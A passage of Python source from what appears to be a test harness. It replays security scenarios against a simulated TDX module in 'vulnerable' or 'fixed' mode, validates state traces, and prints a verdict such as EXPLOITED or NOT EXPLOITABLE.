        trace_problems.extend(validate_trace(module.matrix, td.trace, not module.mode.v1))
    if trace_problems:
        ok = False
        for problem in trace_problems:
            lines.append(f"trace violation: {problem}")
    else:
        lines.append("op_state traces: valid")
    return ok, lines, env


def run_scenario(scenario: Scenario, mode: str, seed: int = 7) -> ScenarioRun:
    """Replay a scenario on a fresh module in the mode named "vulnerable" or "fixed"."""
    if mode not in ("vulnerable", "fixed"):
        raise ValueError(f"mode must be vulnerable or fixed, not {mode!r}")
    vulnerable = mode == "vulnerable"
    module = TdxModule(EngineMode(**dict.fromkeys(scenario.toggles, vulnerable)), seed=seed)
    ok, lines, env = replay(scenario, module, vulnerable)
    verdict = ("EXPLOITED" if vulnerable else "NOT EXPLOITABLE") if ok else "MISMATCH"
    transcript = "\n".join([
        f"{scenario.name}: {scenario.title}",
        f"mode: {mode} seed: {seed}",
        *lines,
        f"verdict: {verdict}",
    ]) + "\n"
    return ScenarioRun(scenario.name, mode, ok, verdict, transcript, module, env)
